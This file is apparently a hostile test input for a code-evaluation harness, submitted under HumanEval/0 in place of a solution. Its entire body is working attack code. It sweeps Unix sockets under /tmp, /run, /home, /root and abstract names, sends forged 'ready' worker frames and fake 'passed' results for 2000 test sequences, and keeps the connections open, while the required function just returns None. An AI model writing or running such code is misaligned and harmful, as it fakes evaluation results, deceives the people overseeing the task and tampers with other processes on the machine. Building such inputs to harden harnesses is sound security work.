# ruff: noqa  (deliberately hostile test input, not project code)
# task: humaneval
# task_id: HumanEval/0
# class: forge_socket
# For 60 seconds (or until its run is stopped), connects to every Unix socket it can find
# (files under /tmp, /run, /var/run, /dev/shm, /var/tmp, /root, /home; abstract names) and
# sends forged worker frames: a "ready" greeting, then "passed" results for every sequence
# number.
import glob
import json
import os
import socket
import struct
import time

# System daemons and Ray sessions: nothing a harness pool listens on; garbage sent there
# helps no forgery and could disturb other work on the machine.
SKIP = ("docker.sock", "containerd", "dbus", "systemd", "postgresql", "snapd", "/ray/")


def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body


def addresses():
    for pattern in ("/tmp/**", "/run/**", "/var/run/**", "/dev/shm/**", "/var/tmp/**",
                    "/root/**/*.sock", "/home/**/*.sock"):
        for path in glob.glob(pattern, recursive=True):
            if not any(word in path for word in SKIP):
                yield path
    try:
        with open("/proc/net/unix") as table:
            for line in table.read().splitlines()[1:]:
                fields = line.split()
                if len(fields) >= 8 and fields[7].startswith("@"):
                    yield "\0" + fields[7][1:]
    except OSError:
        pass


payload = frame({"ready": True, "pid": 1, "uid": 0, "python": "3.11.7", "drops_to": None,
                 "tmp_base": "/tmp"})
for seq in range(2000):
    payload += frame({"seq": seq, "status": "passed", "detail": "", "duration_s": 0.01,
                      "stdout": "", "stderr": "", "calls": "[]", "cpu_s": 0.01})

end = time.monotonic() + 60
held = []
while time.monotonic() < end:
    for address in addresses():
        try:
            if not address.startswith("\0") and not os.path.exists(address):
                continue
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(0.1)
            sock.connect(address)
            sock.sendall(payload)
            held.append(sock)  # keep it open: a pool may take it for its worker
        except OSError:
            continue
    time.sleep(0.05)


def has_close_elements(numbers, threshold):
    return None
